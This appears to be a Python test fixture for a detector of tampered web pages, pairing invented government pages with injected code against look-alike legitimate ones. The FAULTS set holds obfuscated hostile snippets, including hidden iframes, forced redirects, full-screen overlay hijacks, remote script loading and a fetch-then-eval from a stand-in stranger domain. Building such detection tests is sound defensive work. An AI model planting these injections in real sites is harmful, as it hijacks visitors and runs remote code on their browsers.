# ruff: noqa: E501
"""Pages on which scripts, frames or layers lead to strangers, and innocent pages built alike. Invented, none copied."""

import base64
from urllib.parse import quote

from tests.reading.official_page import page

OWN = "http://www.qingshan.gov.cn/art/2024/5/6/art_12_3456.html"
_STRANGER = "http://www.dahaotxx.com/"
_FRAME = f'<iframe src="{_STRANGER}" width="0" height="0"></iframe>'
_LEAVES = f"location.href='{_STRANGER}'"
_VENDOR = "http://www.yunwang-tech.com"


def _script(code: str) -> str:
    return page(extra=f"<script>{code}</script>")


def _base64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _hexed(text: str) -> str:
    return "".join(f"\\x{ord(character):02x}" for character in text)


def _codes(text: str) -> str:
    return ",".join(str(ord(character)) for character in text)


FAULTS: dict[str, str] = {
    "sum-frame": _script(
        "document.write('<ifr'+'ame src=\"ht'+'tp://www.dahao'+'txx.com/\" wid'+'th=0 heig'+'ht=0></ifr'+'ame>');"
    ),
    "vars-frame": _script(
        'var a="<ifr",b="ame src=\'http:/",c="/www.dahao",d="txx.com/\' width=0 height=0></iframe>";document.write(a+b+c+d);'
    ),
    "grow-frame": _script(
        "var s='<if';s+='rame src=\"http://www.dahao';s+='txx.com/\" width=1 height=1></iframe>';document.write(s);"
    ),
    "array-join": _script(
        "document.write(['<ifra','me src=\"http://www.','dahaotxx.com/\" height=','\"0\"></iframe>'].join(''));"
    ),
    "array-var-join": _script(
        "var p=['<ifra','me src=\"http://www.','dahaotxx.com/\" height=','\"0\"></iframe>'];document.write(p.join(''));"
    ),
    "charcode": _script("document.write(String.fromCharCode(" + _codes(_FRAME) + "));"),
    "unescape": _script("document.write(unescape('" + quote(_FRAME) + "'));"),
    "atob": _script("document.write(atob('" + _base64(_FRAME) + "'));"),
    "reverse": _script("document.write('" + _FRAME[::-1] + "'.split('').reverse().join(''));"),
    "replace": _script("document.write('" + _FRAME.replace("a", "#a") + "'.replace(/#/g,''));"),
    "hex": _script('document["' + _hexed("write") + '"]("' + _hexed(_FRAME) + '");'),
    "few-px": page(extra=f'<iframe src="{_STRANGER}" width="5" height="5" frameborder="0"></iframe>'),
    "few-px-style": page(extra=f'<iframe src="{_STRANGER}" style="width:3px;height:2px;border:0"></iframe>'),
    "popup1": _script(f"window.open('{_STRANGER}','','width=1,height=1,left=5000,top=5000');"),
    "popup-blur": _script(
        f"var w=window.open('{_STRANGER}','pp','height=100,width=100,top=9000');w.blur();window.focus();"
    ),
    "popup-fn": page(
        extra=f"<script>function p(){{window.open('{_STRANGER}','_blank','width=1,height=1')}}document.onclick=p;</script>"
    ),
    "body-onload": page().replace("<body>", f"<body onload=\"window.location.href='{_STRANGER}'\">"),
    "img-onerror": page(extra=f'<img src="x" onerror="location.href=\'{_STRANGER}\'">'),
    "img-onload-eval": page(extra=f"<img src='/a.gif' onload=\"eval(atob('{_base64(_LEAVES)}'))\">"),
    "timeout-str": _script(f"setTimeout(\"location.href='{_STRANGER}'\",3000);"),
    "timeout-fn": _script(f"setTimeout(function(){{window.location.replace('{_STRANGER}');}},5000);"),
    "timeout-arrow": _script(f"setTimeout(()=>{{top.location='{_STRANGER}'}},800)"),
    "timeout-named": _script(f"function jump(){{self.location='{_STRANGER}';}}setTimeout('jump()',2000);"),
    "onload-fn": _script(f"window.onload=function(){{window.location.href='{_STRANGER}'}}"),
    "onload-listener": _script(f"window.addEventListener('load',function(){{location.assign('{_STRANGER}')}});"),
    "loc-parts": _script("window['loc'+'ation']['hr'+'ef']='ht'+'tps://www.'+'dahaotxx'+'.com/';"),
    "packer": page(
        head="<script>eval(function(p,a,c,k,e,d){e=function(c){return c};return p}('0.1(\"<2 3=\\\\\"4://5.6.7/\\\\\" 8=0 9=0></2>\");',10,10,'document|write|iframe|src|http|www|dahaotxx|com|width|height'.split('|'),0,{}))</script>"
    ),
    "overlay-frame": page(
        extra=f'<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999;background:#fff"><iframe src="{_STRANGER}" width="100%" height="100%" frameborder="0"></iframe></div>'
    ),
    "overlay-frame2": page(
        extra=f'<iframe src="{_STRANGER}" style="position:absolute;top:0;left:0;width:100%;height:100vh;z-index:2147483647;border:none"></iframe>'
    ),
    "overlay-css": page(
        head="<style>#ov{position:fixed;left:0;top:0;right:0;bottom:0;z-index:9999}#ov iframe{width:100%;height:100%}</style>",
        extra=f'<div id="ov"><iframe src="{_STRANGER}"></iframe></div>',
    ),
    "overlay-link": page(
        extra=f'<a href="{_STRANGER}" target="_blank" style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;display:block"></a>'
    ),
    "overlay-write": _script(
        f'document.write(\'<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999"><iframe src="{_STRANGER}" width="100%" height="100%"></iframe></div>\');'
    ),
    "overlay-made": _script(
        f"var f=document.createElement('iframe');f.src='{_STRANGER}';f.style.cssText='position:fixed;top:0;left:0;width:100%;height:100%;border:0;z-index:999999';document.body.appendChild(f);"
    ),
    "overlay-made2": _script(
        f"var f=document.createElement('iframe');f.setAttribute('src','{_STRANGER}');f.style.position='fixed';f.style.top='0';f.style.left='0';f.style.width='100%';f.style.height='100%';f.style.zIndex='9999';document.body.appendChild(f);"
    ),
    "body-replace": _script(
        f'document.body.innerHTML=\'<iframe src="{_STRANGER}" width="100%" height="100%"></iframe>\';'
    ),
    "made-few": _script(
        f"var i=document.createElement('iframe');i.src='{_STRANGER}';i.width='2';i.height='2';document.body.appendChild(i);"
    ),
    "made-parts": _script(
        "var i=document.createElement('ifr'+'ame');i.src='//www.'+'dahaotxx'+'.com/';i.style.display='none';document.body.appendChild(i);"
    ),
    "jquery-append": _script(f"$('body').append('<iframe src=\"{_STRANGER}\" style=\"display:none\"></iframe>');"),
    "data-frame": page(
        extra='<iframe width="10" height="10" src="data:text/html;base64,'
        + _base64(f'<script>top.location="{_STRANGER}"</script>')
        + '"></iframe>'
    ),
    "data-script": page(
        extra='<script src="data:text/javascript;base64,'
        + _base64(
            f'document.write(\'<iframe src="{_STRANGER}" width=0 height=0></iframe>\');location.href="{_STRANGER}"'
        )
        + '"></script>'
    ),
    "srcdoc": page(
        extra=f'<iframe srcdoc="&lt;script src=\'{_STRANGER}a.js\'&gt;&lt;/script&gt;" style="display:none"></iframe>'
    ),
    "click-auto": _script(
        f"var a=document.createElement('a');a.href='{_STRANGER}';document.body.appendChild(a);a.click();"
    ),
    "form-auto": _script(
        f"var f=document.createElement('form');f.action='{_STRANGER}';document.body.appendChild(f);f.submit();"
    ),
    "cookie-once": _script(
        f"if(document.cookie.indexOf('v=1')<0){{document.cookie='v=1';location.href='{_STRANGER}'}}"
    ),
    "random": _script(f"if(Math.random()<0.3)location.href='{_STRANGER}';"),
    "script-parts": _script(
        "var s=document.createElement('script');s.src='//js.'+'dahao'+'txx.com'+'/t.js';document.head.appendChild(s);"
    ),
    "script-charcode": _script(
        "var s=document.createElement('script');s.src=String.fromCharCode("
        + _codes("//js.dahaotxx.com/t.js")
        + ");document.head.appendChild(s);"
    ),
    "new-function": _script("new Function(atob('" + _base64(f"location.href='{_STRANGER}'") + "'))();"),
    "write-link": _script(
        "document.write('<div style=\"display:none\"><a href=\"http://www.dahao'+'txx.com/\">大浩</a></div>');"
    ),
    "json-array-hex": _script(
        "var _0x12=['\\x68\\x74\\x74\\x70\\x3a\\x2f\\x2f\\x77\\x77\\x77\\x2e\\x64\\x61\\x68\\x61\\x6f\\x74\\x78\\x78\\x2e\\x63\\x6f\\x6d\\x2f','\\x6c\\x6f\\x63\\x61\\x74\\x69\\x6f\\x6e','\\x68\\x72\\x65\\x66'];window[_0x12[1]][_0x12[2]]=_0x12[0];"
    ),
    "object-data": page(extra=f'<object data="{_STRANGER}" width="1" height="1" type="text/html"></object>'),
    "html-write-whole": _script(
        f'document.documentElement.innerHTML=\'<body><iframe src="{_STRANGER}" style="width:100%;height:100%"></iframe></body>\';'
    ),
    "interval": _script(f"setInterval(function(){{location='{_STRANGER}'}},10000)"),
    "concat": _script("document.write('<iframe src=\"http://www.'.concat('dahaotxx.com/\" width=0></iframe>'));"),
    "template": _script("var d='dahaotxx';location.href=`http://www.${d}.com/`;"),
    "marquee-write": _script(
        'document.write("<marquee width=1 height=1><a href=\'http://www.dah"+"aotxx.com/\'>x</a></marquee>");'
    ),
    "onload-nested": page().replace(
        "<body>", "<body onLoad=\"setTimeout('top.location.href=\\'" + _STRANGER + "\\'',2000)\">"
    ),
    "self-hex": _script('self["\\x6c\\x6f\\x63\\x61tion"]="http:\\/\\/www.dahaotxx.com\\/"'),
    "packer-go": _script(
        "eval(function(p,a,c,k,e,r){e=String;while(c--)if(k[c])p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c]);return p}('0.1=\"2://3.4.5/\"',6,6,'location|href|http|www|dahaotxx|com'.split('|'),0,{}))"
    ),
    "meta-written": _script(
        "document.write('<meta http-equiv=\"refresh\" content=\"3;url=http://www.dahao'+'txx.com/\">');"
    ),
    "insert-adj": _script(
        "document.body.insertAdjacentHTML('beforeend','<iframe src=\"http://www.dahaotxx.com/\" style=\"width:1px;height:1px\"></iframe>');"
    ),
    "with-doc": _script("with(document)write('<ifr'+'ame src=//www.dahaotxx.com width=0 height=0></ifr'+'ame>');"),
    "popstate": _script(
        f"history.pushState(null,null,location.href);window.onpopstate=function(){{location.href='{_STRANGER}'}};"
    ),
    "any-click": _script(f"document.onclick=function(){{window.open('{_STRANGER}');document.onclick=null}};"),
    "any-click-jq": _script(f"$(document).one('click',function(){{window.open('{_STRANGER}')}});"),
    "self-open": _script(f"window.open('{_STRANGER}','_self');"),
    "hexstr": _script(
        "var h='"
        + _STRANGER.encode().hex()
        + "'.match(/../g).map(function(x){return String.fromCharCode(parseInt(x,16))}).join('');location.href=h;"
    ),
    "array-reverse": _script("location.href=['.com/','dahaotxx','//www.','http:'].reverse().join('');"),
    "substr": _script("var u='zzhttp://www.dahaotxx.com/'.substr(2);location.replace(u);"),
    "fetch-eval": _script(
        f"fetch('{_STRANGER}c.txt').then(function(r){{return r.text()}}).then(function(t){{eval(t)}});"
    ),
    "arrow-load": _script(f"window.onload=()=>{{setTimeout(()=>{{location.href='{_STRANGER}'}},1500)}};"),
    "iife": _script(f"(function(){{var t='{_STRANGER}';var w=window;w.location.href=t;}})();"),
    "const": _script(f"const k='{_STRANGER}';setTimeout(function(){{window.location=k;}},100);"),
    "decodeuri": _script("window.location.href=decodeURIComponent('%68%74%74%70%3a%2f%2fwww.dahaotxx.com%2f');"),
    "octal": _script(
        "document.write('\\74iframe src=\"\\150\\164\\164\\160://www.dahaotxx.com/\" width=0\\76\\74/iframe\\76');"
    ),
    "unicode": _script(
        'document.write(\'\\u003ciframe src="http://www.dahaotxx.com/" height="0"\\u003e\\u003c/iframe\\u003e\');'
    ),
    "div-1px": page(
        extra=f'<div style="width:1px;height:1px;overflow:hidden"><iframe src="{_STRANGER}"></iframe></div>'
    ),
    "frame-neg": page(extra=f'<iframe src="{_STRANGER}" style="position:absolute;left:-3000px"></iframe>'),
    "frame-opacity": page(extra=f'<iframe src="{_STRANGER}" style="opacity:0;position:absolute;top:0"></iframe>'),
    "embed": page(extra=f'<embed src="{_STRANGER}" width="2" height="2">'),
    "layer-link-abs": page(
        extra=f'<div style="position:fixed;inset:0;z-index:99999"><a href="{_STRANGER}" style="display:block;width:100%;height:100%"></a></div>'
    ),
    "layer-by-created-div": _script(
        f"var d=document.createElement('div');d.innerHTML='<iframe src=\"{_STRANGER}\" style=\"position:fixed;left:0;top:0;width:100vw;height:100vh;z-index:9999999\"></iframe>';document.body.appendChild(d);"
    ),
    "jq-html": _script(f'$(\'body\').html(\'<iframe src="{_STRANGER}" width="100%" height="100%"></iframe>\');'),
    "svg-onload": page(extra=f"<svg onload=\"location='{_STRANGER}'\"></svg>"),
    "var-func": _script(f"var go=function(){{location.href='{_STRANGER}'}};setTimeout(go,3000);"),
    "jq-ready": _script(f"$(document).ready(function(){{window.location.href='{_STRANGER}';}});"),
    "location-assign-concat": _script("var d='dahaotxx.com';window.location.assign('http://www.'+d+'/');"),
    "write-script-parts": _script("document.write('<scr'+'ipt src=\"//js.dahao'+'txx.com/a.js\"></scr'+'ipt>');"),
    "settimeout-write": _script(
        "setTimeout(\"document.write('<iframe src=http://www.dahaotxx.com width=0></iframe>')\",500);"
    ),
    "frameset": '<html><head><title>青山县人民政府</title></head><frameset rows="*,0"><frame src="/index2.html"><frame src="'
    + _STRANGER
    + '"></frameset></html>',
    "tag-upper": page(extra=f'<IFRAME SRC="{_STRANGER}" WIDTH=3 HEIGHT=3></IFRAME>'),
    "css-file-frame": page(
        head="<style>.zz{width:2px;height:2px}</style>", extra=f'<iframe class="zz" src="{_STRANGER}"></iframe>'
    ),
}

INNOCENT: dict[str, str] = {
    "51la": page(
        extra='<script>!function(p){"use strict";!function(t){var s=window,e=document,i=p,c="".concat("https:"===e.location.protocol?"https://":"http://","sdk.51.la/js-sdk-pro.min.js"),n=e.createElement("script"),r=e.getElementsByTagName("script")[0];n.type="text/javascript",n.setAttribute("charset","UTF-8"),n.async=!0,n.src=c,n.id="LA_COLLECT",i.d=n;var o=function(){s.LA.ids.push(i)};s.LA?s.LA.ids&&o():(s.LA=p,s.LA.ids=[],o()),r.parentNode.insertBefore(n,r)}()}({id:"K9",ck:"K9"});</script>'
    ),
    "cnzz": page(
        extra='<script>var cnzz_protocol = (("https:" == document.location.protocol) ? " https://" : " http://");document.write(unescape("%3Cspan id=\'cnzz_stat_icon_30\'%3E%3C/span%3E%3Cscript src=\'" + cnzz_protocol + "s22.cnzz.com/stat.php%3Fid%3D30\' type=\'text/javascript\'%3E%3C/script%3E"));</script>'
    ),
    "baidu": _script(
        'var _hmt = _hmt || [];(function() {var hm = document.createElement("script");hm.src = "https://hm.baidu.com/hm.js?0123";var s = document.getElementsByTagName("script")[0]; s.parentNode.insertBefore(hm, s);})();'
    ),
    "own-stat-parts": _script(
        "var _host='stat.yunwang-tech.com';var s=document.createElement('script');s.src=('https:'==location.protocol?'https://':'http://')+_host+'/t.js';document.body.appendChild(s);"
    ),
    "piwik": _script(
        "var _paq=_paq||[];(function(){var u='//piwik.yunwang-tech.com/';_paq.push(['setTrackerUrl',u+'piwik.php']);var d=document,g=d.createElement('script'),s=d.getElementsByTagName('script')[0];g.src=u+'piwik.js';s.parentNode.insertBefore(g,s);})();"
    ),
    "share": _script(
        'window._bd_share_config={"common":{"bdSnsKey":{}}};with(document)0[(getElementsByTagName("head")[0]||body).appendChild(createElement("script")).src="http://bdimg.share.baidu.com/static/api/js/share.js?v=89860593.js?cdnversion="+~(-new Date()/36e5)];'
    ),
    "map": _script("var map=new BMap.Map('m');var u='http://api.map.baidu.com/'+'getscript';"),
    "video": _script(
        f"var v=document.createElement('iframe');v.src='{_VENDOR}/player/1.html';v.width='640';v.height='480';document.getElementById('v').appendChild(v);"
    ),
    "video-write": _script(
        f'document.write(\'<iframe src="{_VENDOR}/vod/2.html" width="100%" height="400" frameborder="0" allowfullscreen></iframe>\');'
    ),
    "weather": page(
        extra='<iframe src="https://i.tianqi.com/index.php?c=code&id=34" width="220" height="30" frameborder="0"></iframe>'
    ),
    "weather-strange": page(
        extra='<iframe src="http://tianqi.2345-x.com/plugin/widget/index.htm?s=3" width="200" height="24" scrolling="no"></iframe>'
    ),
    "gov-frame": page(extra='<iframe src="http://zwfw.lvshui.gov.cn/embed" width="100%" height="500"></iframe>'),
    "gov-over": page(
        extra='<iframe src="http://zwfw.lvshui.gov.cn/embed" style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999"></iframe>'
    ),
    "float": page(
        extra='<div id="piao" style="position:absolute;z-index:9999;left:0;top:0;width:200px"><a href="http://www.qsrmtzx.com/zt"><img src="/p.jpg"></a></div><script>var x=50,y=60;function f(){var p=document.getElementById("piao");p.style.left=x+"px";p.style.top=y+"px"}setInterval("f()",30);</script>'
    ),
    "wza": page(
        extra='<script>function wza(){window.open("http://www.wza-help.com/go?u="+location.href)}</script><a onclick="wza()">无障碍</a>'
    ),
    "lazy": page(
        extra='<img class="lazy" data-src="http://img.qsrmtzx.com/1.jpg" src="/images/blank.gif" onerror="this.src=\'/images/none.jpg\'" onload="this.style.opacity=1">'
    ),
    "mobile-own": _script(
        "if(/iphone|android/i.test(navigator.userAgent)){location.href='http://m.qingshan.gov.cn/'+'index.html'}"
    ),
    "jssdk": page(
        head='<script src="https://res.wx.qq.com/open/js/jweixin-1.6.0.js"></script><script>wx.config({appId:"wx1",timestamp:1,nonceStr:"a",signature:"b"});wx.ready(function(){wx.updateAppMessageShareData({title:"a",link:"http://www.qingshan.gov.cn/"+"x",imgUrl:"http://www.qingshan.gov.cn/a.png"})});</script>'
    ),
    "notice-popup": _script("window.open('/notice/2024.html','','width=400,height=300');"),
    "survey-popup": _script("function dc(){window.open('http://www.wenjuan-x.com/s/1','','width=500,height=400')}"),
    "survey-button": page(
        extra="<a href='javascript:;' onclick=\"window.open('http://www.wenjuan-x.com/s/1')\">调查</a>"
    ),
    "select-links": page(
        extra='<select onchange="if(this.value)window.open(this.value)"><option value="http://www.haotianxx.net">浩天</option></select>'
    ),
    "ie-check": _script(
        "if(!!window.ActiveXObject||'ActiveXObject' in window){window.location.href='http://www.browser-up.com/'}"
    ),
    "login-click": page(
        extra="<button id='b'>登录</button><script>document.getElementById('b').onclick=function(){location.href='http://sso.yunwang-tech.com/login'}</script>"
    ),
    "jq-click": _script("$('#go').click(function(){window.location.href='http://www.qsrmtzx.com/'});"),
    "jq-on": _script("$(document).on('click','.x',function(){window.location.href='http://www.qsrmtzx.com/'});"),
    "says-jump": "<html><head><title>青山县人民政府</title></head><body><p>页面将在3秒后自动跳转到青山县一体化政务服务平台，请稍候。</p><script>setTimeout(function(){location.href='http://www.qszwfw.com/'},3000)</script></body></html>",
    "related": _script("window.location.href='http://www.qingshan.com/new/'"),
    "ajax": _script(
        "$.ajax({url:'/api',success:function(d){if(d.code==0){location.href='http://www.qsrmtzx.com/'}}});"
    ),
    "confirm": _script("function out(u){if(confirm('您即将离开本站')){window.open(u)}}"),
    "outlink": _script(
        "$('a').each(function(){var h='http://www.qsrmtzx.com/';if(this.href.indexOf(h)>-1){this.target='_blank'}});"
    ),
    "chart": page(
        extra='<div style="position:fixed;right:0;bottom:0;width:60px;height:200px;z-index:999"><a href="http://kf.yunwang-tech.com/">客服</a></div>'
    ),
    "card-link": page(
        extra='<div style="position:relative"><a href="http://www.qsrmtzx.com/zt/" style="position:absolute;top:0;left:0;width:100%;height:100%"></a>专题</div>'
    ),
    "big-screen": '<html><head><title>数据大屏</title></head><body><iframe src="http://screen.yunwang-tech.com/v" style="position:absolute;top:0;left:0;width:100%;height:100%;z-index:999"></iframe></body></html>',
    "player-hidden": page(
        extra='<div id="pl" style="display:none;position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999"><iframe class="player" src="http://vod.yunwang-tech.com/1" width="100%" height="100%"></iframe></div><script>function pl(){document.getElementById("pl").style.display="block"}</script>'
    ),
    "stat-gif": _script(
        'document.write(\'<img src="http://tj.yunwang-tech.com/c.gif?\'+Math.random()+\'" width="0" height="0">\');'
    ),
    "counter-frame": page(extra='<iframe src="http://count.yunwang-tech.com/c.html" width="5" height="5"></iframe>'),
    "pager": _script("var url='/col/';for(var i=1;i<5;i++){document.write('<a href=\"'+url+i+'.html\">'+i+'</a>')}"),
    "friends-sum": _script(
        "var l=[['http://www.qsrmtzx.com','融媒']];for(var i in l){document.write('<a href=\"'+l[i][0]+'\">'+l[i][1]+'</a>')}"
    ),
    "friends-parts": _script(
        "document.write('<li>'+'<a href=\"http://www.qsrmtzx.com/\" target=\"_blank\">'+'青山融媒'+'</a>'+'</li>');"
    ),
    "vote-frame": page(extra=f'<iframe src="{_VENDOR}/vote" width="100%" height="800" frameborder="0"></iframe>'),
    "kf-script": _script(
        "(function(){var k=document.createElement('script');var base='http://kf.yunwang-tech.com';k.src=base+'/kf.js';document.body.appendChild(k)})();"
    ),
    "gray": _script("document.documentElement.style.filter='grayscale(100%)';"),
    "frame-buster": _script("if(window.top!=window.self){window.top.location='http://www.qingshan.gov.cn/'}"),
    "https-up": _script(
        "if(location.protocol=='http:'){location.href='https://'+'www.qingshan.gov.cn'+location.pathname}"
    ),
    "base64-img": page(extra='<img src="data:image/png;base64,iVBORw0KGgoAAAANS">'),
    "search-form": _script("function s(){var f=document.forms[0];f.action='http://so.kaipu-x.com/s';f.submit();}"),
    "md5-lib": _script(
        "function md5(s){var k=[0xd76aa478,0xe8c7b756];return unescape(encodeURIComponent(s)).replace(/a/g,'')}var u='http://www.w3.org/1999/xhtml';"
    ),
    "modal-css": page(
        head="<style>.mask{position:fixed;top:0;left:0;width:100%;height:100%;z-index:99;display:none}</style>",
        extra='<div class="mask"><a href="http://www.qsrmtzx.com/">专题</a></div>',
    ),
    "skin-a": page(
        extra='<a href="http://www.qsrmtzx.com/zt" style="position:absolute;top:0;left:0;width:100%;height:300px;z-index:1"></a>'
    ),
    "sum-menu": _script(
        "var h='';for(var i=0;i<l.length;i++){h+='<li><a href=\"'+l[i].url+'\">'+l[i].title+'</a></li>'}document.getElementById('x').innerHTML=h;"
    ),
    "rss": _script(
        "$.getJSON('http://api.qsrmtzx.com/list?callback=?',function(d){$('#a').html('<a href=\"http://www.qsrmtzx.com/'+d.id+'.html\">'+d.t+'</a>')});"
    ),
    "float-link": page(
        extra='<div style="position:fixed;left:10px;bottom:10px;width:120px;height:120px;z-index:9999"><a href="http://www.qsrmtzx.com/zt"><img src="/f.jpg" width="120" height="120"></a></div>'
    ),
    "float-js": _script(
        "var f=document.createElement('div');f.style.position='fixed';f.style.zIndex='9999';f.style.width='200px';f.innerHTML='<a href=\"http://www.qsrmtzx.com/zt\"><img src=\"/p.png\"></a>';document.body.appendChild(f);"
    ),
    "topbar-fixed": page(
        extra='<div style="position:fixed;top:0;left:0;width:100%;height:60px;z-index:999"><a href="http://www.qsrmtzx.com/">融媒</a></div>'
    ),
    "chat-frame": page(
        extra='<div style="position:fixed;right:0;bottom:0;width:320px;height:480px;z-index:9999"><iframe src="http://kf.yunwang-tech.com/chat" width="100%" height="100%"></iframe></div>'
    ),
    "chat-js": _script(
        "var c=document.createElement('iframe');c.src='http://kf.yunwang-tech.com/chat';c.style.cssText='position:fixed;right:0;bottom:0;width:300px;height:400px;border:0;z-index:99999';document.body.appendChild(c);"
    ),
    "print-open": _script(
        "function pr(){var w=window.open('','','width=800,height=600');w.document.write('<html><body>'+document.getElementById('zoom').innerHTML+'</body></html>');}"
    ),
    "download-js": _script("function dl(u){var a=document.createElement('a');a.href=u;a.download='x';a.click()}"),
    "dl-own": _script("var a=document.createElement('a');a.href='http://www.qingshan.gov.cn/f.pdf';a.click();"),
    "sso": _script(
        "var sso='http://sso.yunwang-tech.com/login';function login(){location.href=sso+'?u='+encodeURIComponent(location.href)}"
    ),
    "sso-cond": _script("if(!token){location.href='http://sso.qszwfw.com/login'}"),
    "redirect-json": _script("var cfg={home:'http://www.qsrmtzx.com/',logout:'http://www.qsrmtzx.com/logout'};"),
    "lunbo": _script(
        "setInterval(function(){var i=(n++)%3;document.getElementById('pic').innerHTML='<a href=\"http://www.qsrmtzx.com/'+i+'\"><img src=\"/p'+i+'.jpg\"></a>'},3000);"
    ),
    "vote": _script(
        "function vote(){window.open('http://www.wenjuan-x.com/vote','_blank')}document.getElementById('v').onclick=vote;"
    ),
    "ad-close": _script("document.getElementById('c').onclick=function(){window.open('http://www.qsrmtzx.com/')};"),
    "doc-click-menu": _script("document.onclick=function(){document.getElementById('menu').style.display='none'};"),
    "doc-click-then-link": _script(
        "document.onclick=function(){hideMenu()};document.getElementById('a').onclick=function(){window.open('http://www.qsrmtzx.com/')};"
    ),
    "jq-doc-on-sel": _script("$(document).on('click','#more',function(){window.open('http://www.qsrmtzx.com/list')});"),
    "body-onload-own": page().replace("<body>", "<body onload=\"init();MM_preloadImages('/images/a.gif')\">"),
    "img-onerror-own": page(
        extra='<img src="http://img.qsrmtzx.com/a.jpg" onerror="this.src=\'http://img.qsrmtzx.com/none.jpg\'">'
    ),
    "img-onload-resize": page(extra='<img src="/a.jpg" onload="if(this.width>600)this.width=600">'),
    "hm-proto": _script(
        "var _bdhmProtocol = (('https:' == document.location.protocol) ? ' https://' : ' http://');document.write(unescape(\"%3Cscript src='\" + _bdhmProtocol + \"hm.baidu.com/h.js%3F0a' type='text/javascript'%3E%3C/script%3E\"));"
    ),
    "webtrends": page(
        extra='<noscript><div><img alt="" border="0" width="1" height="1" src="http://sdc.qs-stat.com/dcs/njs.gif?dcsuri=/nojavascript"></div></noscript>'
    ),
    "stat-noscript-a": page(
        extra='<noscript><a href="http://www.statcount-x.com/"><img src="http://c.statcount-x.com/1.gif"></a></noscript>'
    ),
    "video-data": page(
        extra='<video poster="data:image/png;base64,AAAA"></video><object data="http://v.qsrmtzx.com/p.swf" width="400" height="300"></object>'
    ),
    "weather-js": _script(
        'document.write(\'<iframe width="300" scrolling="no" height="25" frameborder="0" allowtransparency="true" src="http://i.tianqi-x.com/index.php?c=code&id=1"></iframe>\');'
    ),
    "gov-1px": page(extra='<iframe src="http://tj.lvshui.gov.cn/c" width="1" height="1"></iframe>'),
    "own-0": page(extra='<iframe src="http://www.qingshan.gov.cn/tj.jsp" width="0" height="0"></iframe>'),
    "base64-font": page(head="<style>@font-face{font-family:x;src:url(data:font/woff;base64,AAAA)}</style>"),
    "srcdoc-own": page(extra='<iframe srcdoc="&lt;p&gt;政务公开&lt;/p&gt;"></iframe>'),
    "srcdoc-video": page(extra="<iframe srcdoc=\"&lt;video src='http://v.qq.com/a.mp4'&gt;&lt;/video&gt;\"></iframe>"),
    "moved": "<html><head><title>青山县</title></head><body><p>本站已迁移至新网址</p><script>setTimeout(function(){location.href='http://www.qingshan-new.com/'},3000)</script></body></html>",
    "error-count": "<html><head><title>青山县人民政府</title></head><body><p>对不起，您访问的页面不存在，5秒后自动跳转到首页。</p><script>setTimeout(\"location.href='http://www.qsx.com.cn/'\",5000)</script></body></html>",
    "mobile-platform": _script(
        "var ua=navigator.userAgent.toLowerCase();if(/micromessenger/.test(ua)){document.body.className='wx'}var share='http://www.qsrmtzx.com/s';"
    ),
    "regex-lib": _script(
        "var re=/(http:\\/\\/|https:\\/\\/)/;var s='<i>'+x+'</i>';s=s.replace(/<[^>]+>/g,'');location.hash='a';"
    ),
    "escape-slashes": _script('var api="http:\\/\\/api.qsrmtzx.com\\/v1";$.get(api,function(d){});'),
    "packer-own": page(
        extra="<script>eval(function(p,a,c,k,e,r){e=String;return p}('0 1=2',3,3,'var|a|1'.split('|'),0,{}))</script>"
    ),
    "page-app": '<html><head><title>青山县政务服务</title></head><body><div id="app"></div><script>window.__CFG__={api:"http://api.qszwfw.com",cdn:"http://cdn.qszwfw.com/"+"static/"};</script></body></html>',
    "cookie-count": _script(
        "if(document.cookie.indexOf('visited')<0){document.cookie='visited=1';new Image().src='http://tj.yunwang-tech.com/uv.gif'}"
    ),
    "random-pic": _script(
        "var n=Math.floor(Math.random()*3);document.write('<a href=\"http://www.qsrmtzx.com/\"><img src=\"/ad'+n+'.jpg\"></a>');"
    ),
    "old-window-js": _script(
        "function openwin(u){window.open(u,'newwindow','height=100,width=400,top=0,left=0')}openwin('/notice.html');"
    ),
    "foreign-popup-normal": _script(
        "window.open('http://www.wenjuan-x.com/s','diaocha','width=600,height=400,top=100,left=100');"
    ),
    "search-engine": page(extra='<form action="http://zhannei.baidu.com/cse/search" target="_blank"></form>'),
    "hide-iframe-dl": _script(
        "var f=document.createElement('iframe');f.style.display='none';f.src='/download?id=1';document.body.appendChild(f);"
    ),
    "hide-iframe-jump": _script(
        "var i=document.createElement('iframe');i.style.display='none';i.src='weixin://dl/';document.body.appendChild(i);"
    ),
    "bridge": _script(
        "function setupWebViewJavascriptBridge(callback){var WVJBIframe=document.createElement('iframe');WVJBIframe.style.display='none';WVJBIframe.src='https://__bridge_loaded__';document.documentElement.appendChild(WVJBIframe);setTimeout(function(){document.documentElement.removeChild(WVJBIframe)},0)}"
    ),
    "kefu-ready": _script(
        "$(document).ready(function(){$('#kf').attr('href','http://kf.yunwang-tech.com/chat?id=1')});"
    ),
    "ready-link": _script("$(function(){$('.bid a').attr('href','http://www.qsggzy.com/')});"),
    "loc-own-var": _script(
        "var base='http://www.qingshan.gov.cn';setTimeout(function(){location.href=base+'/index.html'},1000);"
    ),
    "h1-fetch": _script(
        "fetch('http://api.qsrmtzx.com/hits?id=1').then(function(r){return r.json()}).then(function(d){document.getElementById('h').innerText=d.n});"
    ),
    "xhr-eval-own": _script(
        "var x=new XMLHttpRequest();x.open('GET','/hits.jsp',true);x.onload=function(){eval('('+x.responseText+')')};x.send();"
    ),
    "iframe-map": page(
        extra='<iframe src="http://map.qs-tianditu.com/embed" style="width:100%;height:100%;border:0"></iframe>'
    ),
    "abs-frame-in-box": page(
        extra='<div style="position:relative;padding-bottom:56%"><iframe src="http://player.qsrmtzx.com/1" style="position:absolute;top:0;left:0;width:100%;height:100%"></iframe></div>'
    ),
}
